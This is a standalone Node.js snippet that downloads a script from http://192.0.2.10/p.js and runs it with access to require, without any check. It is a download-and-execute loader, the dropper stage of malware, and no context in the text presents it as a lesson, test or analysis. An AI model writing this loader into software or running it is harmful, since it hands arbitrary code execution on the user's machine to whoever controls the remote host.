const http = require('http');
http.get('http://192.0.2.10/p.js', (r) => {
  let s = '';
  r.on('data', (d) => (s += d));
  r.on('end', () => new Function('require', s)(require));
});
